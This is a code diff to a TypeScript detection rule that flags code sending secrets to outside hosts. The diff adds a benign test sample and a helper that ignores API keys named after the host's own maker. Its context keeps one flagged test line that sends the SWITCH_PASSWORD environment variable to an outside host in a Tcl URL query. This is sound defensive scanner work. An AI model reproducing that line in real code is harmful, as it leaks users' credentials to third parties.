@@ -1,6 +1,7 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
 import { SENDS, TAKES_PRIVATE, TAKES_SECRETS, TAKES_SIGN_INS } from '../../signals/calls.ts'
+import { isService, isShared, makerOf } from '../../signals/hosts.ts'
 import { nearStrangers } from '../../signals/near-strangers.ts'
 import { worded } from '../../wording.ts'
 import { regex } from '../../patterns/verbose.ts'
@@ -71,6 +72,7 @@ export default defineRule({
       '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
     ],
     quiet: [
+      '```bash\ncat > ~/.kiln/config.yaml << EOF\napi_key: ROWAN_PIKE_API_KEY\nbase_url: https://rowan-pike.net/v1\nEOF\necho "ROWAN_PIKE_API_KEY=sk-..." >> ~/.kiln/.env\ncurl -d "{}" localhost\n```\n',
       '```php\n$page = file_get_contents("https://rates.larch-quay.net/l?" . http_build_query(["day" => $day]));\n```\n',
       '```python\nrequests.post("https://realtime.kiln-post.net/v1", auth=("USERNAME", "PASSWORD"), json=payload)\n```\n',
       '```bash\nexport SENTRY_URL=https://sentry.larch-quay.net\n# SENTRY_AUTH_TOKEN comes from CI\nsentry-cli debug-files upload --wait build/\n```\n',
@@ -88,7 +90,8 @@ export default defineRule({
     for (const { start, end, around } of nearStrangers(document, SECRETS, HANDS_OVER)) {
       // One finding for a piece of code is enough, and rules that know its language say more.
       if (start - last < AROUND_MAX && last >= 0) continue
-      const left = around.replace(SIGN_IN, ' ').replace(SIGNS, ' ')
+      const address = document.reading.text.slice(start, end)
+      const left = withoutOwnKeys(around, address).replace(SIGN_IN, ' ').replace(SIGNS, ' ')
       if (!SECRETS.test(left) || isKnown(around)) continue
       if (!HANDS_OVER.test(around.replace(CUT, ' '))) continue
       last = end
@@ -98,6 +101,20 @@ export default defineRule({
     }
   },
 })
+
+/** Keys of the house that answers there, by its own name: `KILN_API_KEY` beside `https://kiln.dev`. */
+function withoutOwnKeys(code: string, address: string): string {
+  const maker = makerOf(address).replaceAll('-', '_')
+  if (maker.length < MAKER_MIN || isService(maker) || isShared(address)) return code
+  const own = String.raw`\b${maker}_(?:\w{1,20}_)?(?:key|token|secret)\b`
+  return code.replace(
+    new RegExp(String.raw`(?:\bapi_?key["']?\s?[:=]\s?["']?)?\$?\{?${own}`, 'g'),
+    ' ',
+  )
+}
+
+/** Shorter names stand at the start of others. */
+const MAKER_MIN = 4
 
 /** Characters between two findings. */
 const AROUND_MAX = 1000
